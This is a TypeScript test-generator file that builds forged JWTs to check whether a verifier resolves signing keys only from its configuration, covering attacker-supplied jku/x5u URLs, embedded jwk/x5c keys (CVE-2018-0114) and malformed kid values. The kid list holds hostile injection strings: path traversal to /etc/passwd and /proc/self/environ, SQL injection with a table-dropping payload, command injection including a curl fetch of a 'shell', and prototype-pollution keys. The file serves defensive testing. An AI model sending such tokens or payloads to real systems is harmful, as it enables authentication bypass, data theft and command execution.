import { type Base, claimsText, headerText, inGroup, inputOf, type Members, sign, type Titled, under } from './base.ts'
import { ATTACKER, attackerJwk, der, ec, jwkOf, rsa, signedByStranger } from './keys.ts'

/** Keys come from the configuration alone; a `kid` finds one of them or none (RFC 8725, section 3.10). */
export const keyrefTokens = (base: Base) =>
  inGroup('keyref', [...addresses(base), ...brought(base), ...searched(base), ...similar(base), ...otherTypes(base)])

/** Twice each: by the key that lies at the address, and by the real one. */
function addresses(base: Base): Titled[] {
  const { host } = new URL(base.listener)
  const urls = [
    ...[`http://${host}/jwks.json`, `http://${host}/jwks.json#${base.kid}`, `//${host}/key`, `HTTP://${host}/`],
    ...[`http://localhost@${host}/`, `http://localhost:${new URL(base.listener).port}/key.pem`, 'file:///dev/null'],
    ...['file:///etc/passwd', `data:application/json,${JSON.stringify({ keys: [attackerJwk] })}`, '', '/'],
  ]
  const at = (name: string, url: string): Titled[] => {
    const header: Members = { [name]: JSON.stringify(url) }
    return [
      [`${name} ${url || '(empty)'}, signed by the key there`, under(base, header, ATTACKER)],
      [`${name} ${url || '(empty)'}, signed by the real key`, under(base, header)],
    ]
  }
  const others = ['x5u', 'iss', 'kid_url', 'openid_configuration', 'url', 'jwks_uri']
  return [...urls.flatMap((url) => at('jku', url)), ...others.flatMap((name) => at(name, `http://${host}/${name}`))]
}

/** CVE-2018-0114: the token brings its own key. */
function brought(base: Base): Titled[] {
  const oct = JSON.stringify({ ...attackerJwk, kid: base.kid, alg: 'HS256' })
  const certificate = der(rsa.publicKey).toString('base64')
  const asymmetric = (alg: string, header: Members): string =>
    signedByStranger(alg, inputOf(headerText(base, { alg: `"${alg}"`, ...header }), claimsText(base)))
  const parts: [string, string][] = [
    ['jwk', oct],
    ['jwk', '{}'],
    ['jwk', 'null'],
    ['jwk', `[${oct}]`],
    ['jwks', `{"keys":[${oct}]}`],
    ['x5c', `["${certificate}"]`],
    ['x5c', '[]'],
    ['x5c', `"${certificate}"`],
    ['x5t', '"abc"'],
    ['x5t#S256', '"abc"'],
    ['k', JSON.stringify(attackerJwk.k)],
    ['key', JSON.stringify(ATTACKER)],
    ['secret', JSON.stringify(ATTACKER)],
  ]
  return [
    ...parts.flatMap(([name, value]): Titled[] => [
      [`${name} ${value.slice(0, 12)}, signed by the stranger`, under(base, { [name]: value }, ATTACKER)],
      [`${name} ${value.slice(0, 12)}, signed by the real key`, under(base, { [name]: value })],
    ]),
    ['jwk of an RSA key, signed by it', asymmetric('RS256', { jwk: jwkOf(rsa.publicKey) })],
    ['jwk of an EC key, signed by it', asymmetric('ES256', { jwk: jwkOf(ec.publicKey) })],
    ['x5c of an RSA key, signed by it', asymmetric('RS256', { x5c: `["${certificate}"]` })],
    ['jwk of an RSA key with its private part', asymmetric('RS256', { jwk: jwkOf(rsa.privateKey) })],
  ]
}

/** A `kid` that is read as a path, a query, a command or a member of an object; keyed with what such a look-up would find: nothing. */
function searched(base: Base): Titled[] {
  const kids = [
    ...['', ' ', '.', '/', '\\', '/dev/null', '../../../../dev/null', '/proc/self/environ', 'C:\\Windows\\win.ini'],
    ...['file:///dev/null', `${base.listener}/kid`, `\\\\${new URL(base.listener).host}\\share`, 'ldap://localhost/x'],
    ...["' or 1=1 --", "' union select '' --", '"; drop table sessions; --', '{"$gt":""}', '*', '%', '%00', '\0', '\n'],
    ...['| cat /etc/passwd', `; curl ${base.listener}/shell`, '$(id)', '`id`', '%{7*7}', '{{7*7}}', '\ud800'],
    ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'size', '0'],
    'x'.repeat(2000),
  ]
  return kids.flatMap((kid): Titled[] => {
    const title = `kid ${JSON.stringify(kid.slice(0, 60))}`
    const header = { kid: JSON.stringify(kid) }
    return [
      [`${title}, keyed with nothing`, under(base, header, '')],
      [`${title}, signed by the real key`, under(base, header)],
    ]
  })
}

function similar(base: Base): Titled[] {
  const { kid } = base
  const kids = [
    ...[`${kid} `, ` ${kid}`, `${kid}\0`, `${kid}=`, `${kid}\n`, `${kid}%00`, kid.slice(1)],
    ...[
      `${kid}A`,
      kid.slice(0, -1),
      `./${kid}`,
      `${kid},${kid}`,
      `["${kid}"]`,
      `"${kid}"`,
      `#${kid}`,
      [...kid].reverse().join(''),
      `\ufeff${kid}`,
    ],
  ]
  return kids.map((one, i) => [`kid like the real one, ${i + 1}`, under(base, { kid: JSON.stringify(one) })])
}

function otherTypes(base: Base): Titled[] {
  const kid = JSON.stringify(base.kid)
  const values = ['null', '0', '1', '-1', '1e400', 'true', 'false', '[]', `[${kid}]`, `[[${kid}]]`, '{}']
  return [
    ...values.map((value): Titled => [`kid of another type: ${value.replace(kid, 'K')}`, under(base, { kid: value })]),
    ['kid whose toString says the real one', under(base, { kid: `{"toString":${kid}}` })],
    ['kid missing', under(base, { kid: undefined })],
    ['kid under another name', under(base, { kid: undefined, KID: kid })],
    ['kid given twice, the last is unknown', under(base, { kid: `${kid},"kid":"unknown"` })],
    ['kid given twice, the last is of another type', under(base, { kid: `${kid},"kid":{}` })],
    [
      'kid among the claims only',
      sign(inputOf(headerText(base, { kid: undefined }), claimsText(base, { kid })), base.secret),
    ],
  ]
}
